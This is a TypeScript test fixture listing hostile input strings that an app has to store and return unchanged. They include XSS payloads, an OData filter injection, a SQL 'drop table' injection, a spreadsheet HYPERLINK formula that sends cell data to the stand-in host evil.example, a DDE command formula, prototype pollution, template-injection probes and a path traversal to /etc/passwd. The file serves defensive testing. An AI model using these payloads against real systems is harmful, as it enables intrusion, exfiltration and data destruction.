/** What people paste, and what somebody who means harm types: each must come back exactly as it was written (invariant 10). */
export const hostileTexts: Readonly<Record<string, string>> = {
  Markdown: "**Bold** [click](javascript:alert(1)) ![x](https://evil.example/x.png) `code` <at>everyone</at>",
  HTML: `<script>alert(1)</script><img src=x onerror="alert(1)">&amp;&lt;`,
  "the end of a script element": "</script><script>alert(1)</script><!--",
  "right-to-left marks": "cover \u202Efdp.form\u202C \u200F עברית \u2066x\u2069",
  emoji: "👩🏽‍🏫 🏴󠁧󠁢󠁥󠁮󠁧󠁿 e\u0301 ﬁ",
  "characters that do not show": "a\u0000b\u0007c\u200Bd\uFEFFe\u2028f",
  "several lines": "one\r\ntwo\n\n\tthree",
  "an OData quote": "x' or fields/Key ne 'y') eq true or startswith(fields/Title,'",
  SQL: `'); drop table list_items; --`,
  "a formula": `=HYPERLINK("https://evil.example/?x="&A1,"open")`,
  "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
  JSON: `{"__proto__":{"isAdmin":true},"a":"\\u0000"}`,
  "a template": "{{7*7}} <%= 7*7 %> #{7*7} %s %o",
  "a card's own markup": "{{DATE(2026-11-24T15:30:00Z)}} {{TIME(2026-11-24T15:30:00Z)}}",
  "a path": "../../../../etc/passwd%00",
};
